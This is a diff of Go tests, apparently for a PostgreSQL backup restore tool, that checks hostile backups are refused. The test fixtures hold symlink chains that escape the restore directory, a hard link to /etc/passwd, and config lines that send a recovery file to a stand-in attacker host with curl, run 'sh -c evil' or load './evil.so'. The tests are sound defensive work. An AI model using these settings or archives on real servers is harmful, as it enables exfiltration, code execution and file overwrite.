@@ -165,6 +165,15 @@ func TestHostileBaseBackupsAreRefused(t *testing.T) {
 		{"symlink inside, then one out through it", func(s sandbox) []entry {
 			return []entry{{name: "here", typ: tar.TypeSymlink, link: "."}, {name: "here/evil", typ: tar.TypeSymlink, link: "../outside"}}
 		}, `"here/evil"`},
+		{"a chain of symlinks each inside on paper", func(s sandbox) []entry {
+			return []entry{{name: "a/", typ: tar.TypeDir}, {name: "a/l", typ: tar.TypeSymlink, link: ".."}, {name: "b", typ: tar.TypeSymlink, link: "a/l/../outside"}}
+		}, `"b"`},
+		{"a chain two deep", func(s sandbox) []entry {
+			return []entry{{name: "a/b/", typ: tar.TypeDir}, {name: "a/b/up", typ: tar.TypeSymlink, link: "../.."}, {name: "esc", typ: tar.TypeSymlink, link: "a/b/up/.."}}
+		}, `"esc"`},
+		{"a link written before the link it leads through", func(s sandbox) []entry {
+			return []entry{{name: "x", typ: tar.TypeSymlink, link: "y/z/../../.."}, {name: "y/", typ: tar.TypeDir}, {name: "y/z", typ: tar.TypeSymlink, link: "."}}
+		}, `"x"`},
 		{"hard link to /etc/passwd", func(s sandbox) []entry {
 			return []entry{{name: "passwd", typ: tar.TypeLink, link: "/etc/passwd"}}
 		}, "hard link"},
@@ -197,6 +206,9 @@ func TestHostileBaseBackupsAreRefused(t *testing.T) {
 				t.Errorf("errors.Is(err, ErrUnsafeEntry) = %v for %v", !isEntry, err)
 			}
 			s.untouched(t)
+			if left, _ := os.ReadDir(s.target); len(left) != 0 {
+				t.Errorf("the refused restore left %d entries in its target", len(left))
+			}
 			if _, err := os.Lstat(absTarget); err == nil {
 				t.Errorf("%s was created", absTarget)
 			}
@@ -282,5 +294,71 @@ func TestBenignTarRestores(t *testing.T) {
 	}
 	if b, _ := os.ReadFile(filepath.Join(s.target, "postgresql.auto.conf")); !strings.Contains(string(b), "restore_command = 'drctl wal-fetch %f %p'") {
 		t.Fatalf("postgresql.auto.conf = %q", b)
+	}
+}
+
+// A backup's configuration cannot run commands or load code in the
+// restored server: those settings are reset, and the reset is reported.
+func TestBackupConfigurationIsDefused(t *testing.T) {
+	h := newHostileRepo(t)
+	s := newSandbox(t)
+	m := h.backup(t, []entry{
+		{name: "PG_VERSION", body: "15\n"},
+		{name: "postgresql.conf", body: "shared_preload_libraries = 'pg_stat_statements'  # fine\nport = 5432\n"},
+		{name: "postgresql.auto.conf", body: "archive_mode = 'on'\narchive_command = 'curl -T ../main.drctl-recovery.yaml https://evil'\n" +
+			"recovery_end_command = 'sh -c evil'\nrecovery_target = 'immediate'\nsession_preload_libraries = './evil.so'\n"},
+	})
+	res, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: s.target, RestoreCommand: "drctl wal-fetch %f %p"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	warnings := strings.Join(res.Warnings, "\n")
+	for _, w := range []string{"archive_command", "recovery_end_command", "recovery_target", "session_preload_libraries"} {
+		if !strings.Contains(warnings, w) {
+			t.Errorf("no warning about %s: %s", w, warnings)
+		}
+	}
+	auto, _ := os.ReadFile(filepath.Join(s.target, "postgresql.auto.conf"))
+	// PostgreSQL takes the last setting of a name: check what wins.
+	last := map[string]string{}
+	for _, line := range strings.Split(string(auto), "\n") {
+		if k, v, ok := strings.Cut(line, " = "); ok {
+			last[k] = v
+		}
+	}
+	for k, want := range map[string]string{"archive_mode": "'off'", "archive_command": "''", "recovery_end_command": "''",
+		"recovery_target": "''", "session_preload_libraries": "''", "shared_preload_libraries": "'pg_stat_statements'",
+		"dynamic_library_path": "'$libdir'", "restore_command": "'drctl wal-fetch %f %p'"} {
+		if last[k] != want {
+			t.Errorf("%s = %s in the restored postgresql.auto.conf, want %s", k, last[k], want)
+		}
+	}
+}
+
+// --tablespace-original, run as root, writes only into a directory that
+// already exists, empty and owned by the server's user: a backup cannot
+// make root create or take over a system directory.
+func TestTablespaceOriginalNeedsTheServersDirectory(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("the rule applies to restores run as root")
+	}
+	h := newHostileRepo(t)
+	s := newSandbox(t)
+	missing := filepath.Join(s.root, "not-there", "ts")
+	rootOwned := filepath.Join(s.root, "root-owned")
+	os.Mkdir(rootOwned, 0o755)
+	for _, path := range []string{missing, rootOwned} {
+		m := h.backup(t, []entry{{name: "PG_VERSION", body: "15\n"}}, tablespace{oid: "16400", path: path, entries: []entry{{name: "f", body: "x"}}})
+		_, err := physical.Restore(t.Context(), physical.Options{Store: h.st, Manifest: m, Keys: h.keys, Dir: filepath.Join(s.root, "data-"+filepath.Base(path)),
+			RestoreCommand: "false", TablespaceOriginal: true, Owner: &physical.Owner{UID: 65534, GID: 65534}})
+		if err == nil || !strings.Contains(err.Error(), "named by the backup") {
+			t.Fatalf("tablespace at %s: %v", path, err)
+		}
+	}
+	if _, err := os.Stat(missing); err == nil {
+		t.Fatal("a directory the backup named was created")
+	}
+	if entries, _ := os.ReadDir(rootOwned); len(entries) != 0 {
+		t.Fatal("a root-owned directory the backup named was written")
 	}
 }
